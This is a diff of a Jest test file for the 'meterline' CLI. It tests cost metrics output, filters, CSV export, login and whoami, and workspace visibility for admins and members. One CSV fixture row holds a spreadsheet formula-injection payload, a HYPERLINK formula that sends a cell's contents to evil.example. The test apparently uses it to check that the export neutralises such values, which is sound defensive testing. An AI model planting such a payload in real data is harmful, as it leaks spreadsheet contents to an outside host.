@@ -1,12 +1,10 @@
 /** The commands of a reader, against the real API. */
-import { mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
+import { mkdir, mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals';
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import { bearer, event, metricsPath, startApi, type TestApi } from '../contract/fixture.js';
 import { runCommand } from './run-command.js';
-
-jest.setTimeout(60_000);
 
 const ACCOUNT = 'acme';
 const DAY = ['--from', '2025-10-01', '--to', '2025-10-02'];
@@ -46,7 +44,7 @@ describe('meterline metrics', () => {
         'acme: 2025-10-01T00:00:00Z to 2025-10-02T00:00:00Z (UTC), hourly',
         '',
         'WORKSPACE             COST   SHARE  TREND',
-        'main               $180.50  100.0%  ··········█·········▅···',
+        'main               $180.50  >99.9%  ··········█·········▅···',
         '東京       $0.000000000001   <0.1%  ··········█·············',
         'Total              $180.50  100.0%',
         '',
@@ -54,10 +52,18 @@ describe('meterline metrics', () => {
     );
   });
 
+  it('says that a resource is of several workspaces, to an admin alone', async () => {
+    const args = ['metrics', ...DAY, '--group-by', 'resource_name', '--resource-name', 'box'];
+    const member = { ...env, METERLINE_API_KEY: await api.key(ACCOUNT, 'member') };
+    const [seen, hidden] = await Promise.all([runCommand(args, { env }), runCommand(args, { env: member })]);
+    expect(seen.stdout).toMatch(/^several workspaces +sandbox +box +\$60\.50/m);
+    expect(hidden.stdout).toMatch(/^sandbox +box +\$60\.50/m);
+  });
+
   it('prints usage with its unit, and every digit with --exact', async () => {
     const args = ['metrics', ...DAY, '--group-by', 'billing_dimension,workspace', '--exact'];
     const { stdout } = await runCommand(args, { env });
-    expect(stdout).toMatch(/^main +sandbox +sandbox_compute_runtime_gbs +\$180\.50 +100\.0% +1,234,568\.891 GB-s /m);
+    expect(stdout).toMatch(/^main +sandbox +sandbox_compute_runtime_gbs +\$180\.50 +>99\.9% +1,234,568\.891 GB-s /m);
     expect(stdout).toMatch(/^Total +\$180\.500000000001 +100\.0%$/m);
   });
 
@@ -94,7 +100,7 @@ describe('meterline metrics', () => {
       [
         'workspace,resourceType,resourceName,billingDimension,startTime,endTime,costUsd,usage,unit',
         `main,sandbox,"'=HYPERLINK(""http://evil.example/?""&A1,""total"")",sandbox_compute_runtime_gbs,2025-10-01T00:00:00Z,2025-10-02T00:00:00Z,120,1234567.891,gbs`,
-        'main,sandbox,box,sandbox_compute_runtime_gbs,2025-10-01T00:00:00Z,2025-10-02T00:00:00Z,60.500000000001,1.5,gbs',
+        ',sandbox,box,sandbox_compute_runtime_gbs,2025-10-01T00:00:00Z,2025-10-02T00:00:00Z,60.500000000001,1.5,gbs',
         '',
       ].join('\r\n'),
     );
@@ -114,7 +120,9 @@ describe('meterline metrics', () => {
     [['--workspace', '東京'], '0.000000000001'],
     [['--resource-name', 'box', '--workspace', 'main'], '60.5'],
     [['--resource-type', 'agent'], '0'],
-    [['--resource-uuid', ''], '0'],
+    [['--workspace', '東京', '--workspace', 'main', '--resource-name', 'box'], '60.500000000001'],
+    [['--resource-type', 'agent', '--resource-type', 'sandbox'], '180.500000000001'],
+    [['--without-resource-uuid'], '0'],
     [['--billing-dimension', 'sandbox_compute_runtime_gbs', '--resolution', 'daily'], '180.500000000001'],
   ])('filters with %j', async (filter, cost) => {
     const { stdout } = await runCommand(['metrics', ...DAY, ...filter, '--json'], { env });
@@ -185,7 +193,12 @@ describe('login', () => {
     expect(JSON.parse(await readFile(file, 'utf8'))).toEqual({ apiUrl: api.url, apiKey: key, account: ACCOUNT });
 
     const who = await runCommand(['whoami', '--json'], { env: own });
-    expect(JSON.parse(who.stdout)).toMatchObject({ apiUrl: api.url, keyFrom: file, account: ACCOUNT });
+    expect(JSON.parse(who.stdout)).toMatchObject({
+      apiUrl: api.url,
+      apiUrlFrom: { kind: 'login file', source: file },
+      keyFrom: { kind: 'login file', source: file },
+      account: ACCOUNT,
+    });
     expect(who.stdout).not.toContain(key);
     expect((await runCommand(['resource-types', ...DAY], { env: own })).stdout).toBe('sandbox\n');
     // A key is not sent to an address that it was not given for.
@@ -195,6 +208,29 @@ describe('login', () => {
 
     expect(await runCommand(['logout'], { env: own })).toMatchObject({ code: 0 });
     expect(await runCommand(['accounts', '--api-url', api.url], { env: own })).toMatchObject({ code: 2 });
+  });
+
+  it('goes before a local stack that runs here, which whoami names too', async () => {
+    const dataDir = join(directory, 'stack');
+    await mkdir(dataDir);
+    const addresses = {
+      apiUrl: 'http://127.0.0.1:9',
+      redisUrl: 'redis://127.0.0.1:9',
+      clickhouseUrl: 'http://127.0.0.1:9',
+    };
+    const login = { clickhouseUser: 'u', clickhousePassword: '', clickhouseDatabase: 'd' };
+    const keys = { account: 'demo', adminKey: 'a', memberKey: 'm' };
+    await writeFile(join(dataDir, 'local.json'), JSON.stringify({ ...addresses, ...login, ...keys }));
+    const file = join(directory, 'third.json');
+    const own = { METERLINE_CONFIG: file, METERLINE_DATA_DIR: dataDir };
+    await runCommand(['login', '--api-url', api.url], { env: own, stdin: `${key}\n` });
+    const { stdout, stderr } = await runCommand(['whoami'], { env: { ...own, METERLINE_ACCOUNT: ACCOUNT } });
+    expect(stdout.split('\n').slice(0, 3)).toEqual([
+      `API      ${api.url} (login file: ${file})`,
+      `Key      ${key.slice(0, 10)}… (login file: ${file})`,
+      `Account  ${ACCOUNT} (environment: METERLINE_ACCOUNT)`,
+    ]);
+    expect(stderr).toBe('The local stack that runs here is not asked; --api-url http://127.0.0.1:9 names it.\n');
   });
 
   it('says which setting overrides it', async () => {
